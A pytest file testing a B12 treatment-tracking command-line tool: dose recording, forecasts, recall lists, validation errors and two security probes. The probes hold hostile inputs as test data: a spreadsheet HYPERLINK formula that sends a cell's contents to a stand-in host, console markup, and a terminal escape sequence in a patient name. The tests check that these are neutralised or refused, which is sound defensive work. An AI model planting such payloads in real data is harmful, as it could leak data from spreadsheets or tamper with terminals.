"""The treatment-record commands end to end on an embedded SQLite file (PostgreSQL: tests/integration)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable

import pytest
from tests.conftest import EXAMPLE_CASE, CliResult

Run = Callable[..., CliResult]
LAB = ("--test", "total_b12", "--date", "2026-01-01")
DOSE = ("--drug", "hydroxocobalamin", "--dose", "1", "--unit", "mg", "--route", "IM")


def test_recording_the_same_dose_twice_with_one_key_stores_one_dose(run_cli: Run, cli_patient: str) -> None:
    first = run_cli("dose", "record", cli_patient, "--date", "2026-01-05", *DOSE, "--key", "visit-1")
    second = run_cli("dose", "record", cli_patient, "--date", "2026-01-05", *DOSE, "--key", "visit-1")

    assert first.exit_code == second.exit_code == 0
    assert first.stdout == second.stdout
    history = run_cli("history", cli_patient, width=160).stdout
    assert history.count("1 mg IM") == 1


def test_forecast_of_a_patient_uses_the_recorded_doses(run_cli: Run, cli_patient: str) -> None:
    for day in ("2026-01-05", "2026-01-07"):
        run_cli("dose", "record", cli_patient, "--date", day, *DOSE)

    result = run_cli("forecast", cli_patient, "--as-of", "2026-01-08", "--format", "json")

    forecast = json.loads(result.stdout)
    assert forecast["status"] == "loading"
    assert forecast["next_dose"] == {"earliest": "2026-01-09", "due": "2026-01-09", "overdue": "2026-01-10"}
    assert [e["status"] for e in forecast["evaluations"]] == ["valid", "valid"]


def test_recall_lists_an_overdue_patient_as_csv_and_json(run_cli: Run, cli_patient: str) -> None:
    csv_text = run_cli("recall", "--as-of", "2026-02-01", "--format", "csv", width=300).stdout
    lines = csv_text.strip().splitlines()
    assert lines[0] == "patient_id,reference,name,clinic_id,status,due,overdue,flags"
    assert lines[1].startswith(f"{cli_patient},H1,Ann Example,")

    rows = json.loads(run_cli("recall", "--as-of", "2026-02-01", "--format", "json").stdout)
    assert [row["patient_id"] for row in rows] == [cli_patient]
    assert rows[0]["due"] == "2026-01-05"


def test_a_review_that_shortens_the_interval_makes_a_new_plan_version(run_cli: Run, cli_patient: str) -> None:
    result = run_cli(
        "review",
        "record",
        cli_patient,
        "--date",
        "2026-04-01",
        "--decision",
        "shorten_interval",
        "--interval",
        "2m",
    )
    assert result.exit_code == 0
    assert "Plan version 2" in run_cli("patient", "show", cli_patient, "--as-of", "2026-04-02").stdout


def test_bad_record_input_exits_2_naming_the_field(run_cli: Run, cli_patient: str) -> None:
    cases = [
        (("dose", "record", cli_patient, "--date", "2026-02-30", *DOSE), "error: date: "),
        (("lab", "record", cli_patient, *LAB, "--value", "5", "--unit", "mg/dL"), "error: labs[0].unit: "),
        (("lab", "record", cli_patient, *LAB, "--value", "-5", "--unit", "ng/L"), "error: value: "),
        (("symptoms", "record", cli_patient, "--date", "2026-01-01", "--overall", "same",
          "--score", "fatigue=7"), "error: scores.fatigue: "),
        (("dose", "record", "no-such-patient", "--date", "2026-01-05", *DOSE), "error: patient: "),
        (("recall", "--status", "lost"), "error: status: "),
    ]  # fmt: skip
    for args, prefix in cases:
        result = run_cli(*args)
        assert result.exit_code == 2, args
        assert result.stderr.startswith(prefix), result.stderr
        assert "Traceback" not in result.stderr


def test_a_key_reused_for_another_dose_exits_2_naming_the_key_and_stores_nothing(
    run_cli: Run, cli_patient: str
) -> None:
    first = run_cli("dose", "record", cli_patient, "--date", "2026-01-05", *DOSE, "--key", "visit-1")
    other = ("--drug", "hydroxocobalamin", "--dose", "1", "--unit", "mg", "--route", "IM")

    reused = run_cli("dose", "record", cli_patient, "--date", "2026-01-07", *other, "--key", "visit-1")

    assert first.exit_code == 0
    assert reused.exit_code == 2
    assert reused.stderr.startswith("error: idempotency_key: ")
    history = run_cli("history", cli_patient, width=200).stdout
    assert "2026-01-05" in history and "2026-01-07" not in history


@pytest.mark.parametrize("workers", ["1", "2"])
def test_recompute_rebuilds_every_stored_forecast(run_cli: Run, cli_patient: str, workers: str) -> None:
    # a day after every change of this patient's forecast (the write stored it as of today, the recompute
    # as of 20 January): both must then answer the same
    later = "2030-01-01"
    before = json.loads(run_cli("recall", "--as-of", later, "--format", "json").stdout)

    result = run_cli("recompute", "--as-of", "2026-01-20", "--workers", workers)

    assert result.exit_code == 0, result.stderr
    assert "Recomputed 1 forecasts." in result.stdout
    assert before
    assert json.loads(run_cli("recall", "--as-of", later, "--format", "json").stdout) == before


def test_an_entry_marked_entered_in_error_is_kept_shown_and_no_longer_counted(
    run_cli: Run, cli_patient: str
) -> None:
    dose_id = run_cli("dose", "record", cli_patient, "--date", "2026-01-05", *DOSE).stdout.strip()

    result = run_cli("mark-error", "dose", dose_id, "--reason", "wrong patient", "--actor", "nurse.b")

    assert result.exit_code == 0
    history = run_cli("history", cli_patient, width=200).stdout
    assert "nurse.b" in history and "wrong patient" in history
    forecast = json.loads(
        run_cli("forecast", cli_patient, "--as-of", "2026-01-05", "--format", "json").stdout
    )
    assert forecast["evaluations"] == []
    again = run_cli("mark-error", "dose", dose_id, "--reason", "again")
    assert again.exit_code == 2
    assert again.stderr.startswith("error: dose: ")


def test_demo_creates_patients_at_every_stage_and_the_recall_list_puts_the_most_urgent_first(
    run_cli: Run, tmp_path: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("B12CARE_DATABASE_URL", f"sqlite:///{tmp_path}/demo.db")

    assert run_cli("demo", "--patients", "16", "--as-of", "2026-11-24").exit_code == 0

    rows = json.loads(run_cli("recall", "--as-of", "2026-11-24", "--format", "json").stdout)
    statuses = [row["status"] for row in rows]
    flags = {flag for row in rows for flag in row["flags"].split()}
    assert {"overdue", "needs_review"} <= set(statuses)
    assert {"MAINTENANCE_LAPSED", "REVIEW_OVERDUE", "SYMPTOMS_RECURRING_BEFORE_DUE"} <= flags
    assert "MAINTENANCE_LAPSED" in rows[0]["flags"] or "REVIEW_OVERDUE" in rows[0]["flags"]


def test_recall_shows_typed_names_literally_and_its_csv_defuses_formulas(
    run_cli: Run, cli_clinic_and_patient: tuple[str, str]
) -> None:
    """Security probe L2: markup in a name crashed the table; a formula went unchanged into the CSV."""
    clinic, _ = cli_clinic_and_patient
    for reference, name in (("H2", "[/]bold[link=http://x]y"), ("H3", '=HYPERLINK("http://x/?"&A1,"click")')):
        added = run_cli(
            "patient", "add", "--clinic", clinic, "--reference", reference, "--name", name,
            "--case", str(EXAMPLE_CASE), "--actor", "nurse.a",
        )  # fmt: skip
        assert added.exit_code == 0, added.stderr

    table = run_cli("recall", "--as-of", "2026-02-01", width=300)
    listing = run_cli("patient", "list", "--clinic", clinic, width=300)
    rows = list(
        csv.DictReader(io.StringIO(run_cli("recall", "--as-of", "2026-02-01", "--format", "csv").stdout))
    )

    assert table.exit_code == 0, table.stderr
    assert "[/]bold[link=http://x]y" in table.stdout
    assert "[/]bold[link=http://x]y" in listing.stdout
    names = {row["reference"]: row["name"] for row in rows}
    assert names["H3"] == "'" + '=HYPERLINK("http://x/?"&A1,"click")'
    assert names["H2"] == "[/]bold[link=http://x]y"


def test_a_name_with_a_terminal_escape_is_refused_naming_the_field(
    run_cli: Run, cli_clinic_and_patient: tuple[str, str]
) -> None:
    clinic, _ = cli_clinic_and_patient

    result = run_cli(
        "patient", "add", "--clinic", clinic, "--reference", "H9", "--name", "Eve\x1b[31mRED",
        "--case", str(EXAMPLE_CASE),
    )  # fmt: skip

    assert result.exit_code == 2
    assert result.stderr.startswith("error: name: ") and "control character" in result.stderr
